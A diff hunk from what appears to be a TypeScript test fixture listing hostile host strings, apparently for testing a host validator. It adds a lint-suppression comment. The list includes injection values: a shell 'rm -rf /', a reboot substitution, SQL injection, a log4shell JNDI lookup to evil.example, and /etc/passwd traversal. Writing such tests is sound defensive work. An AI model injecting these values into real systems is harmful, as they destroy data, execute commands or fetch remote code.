@@ -25,6 +25,7 @@ const hostileHosts: ReadonlyArray<readonly [string, string]> = [
   ['sql injection', "10.0.0.1:5678' OR '1'='1"],
   ['shell injection', '10.0.0.1:5678; rm -rf /'],
   ['command substitution', '$(reboot):5678'],
+  // biome-ignore lint/suspicious/noTemplateCurlyInString: a log4shell-looking host, literally
   ['log4shell', '${jndi:ldap://evil.example/a}:5678'],
   ['path traversal', '../../etc/passwd:5678'],
   ['znode path', '/dolphinscheduler/nodes/master/10.0.0.1:5678'],
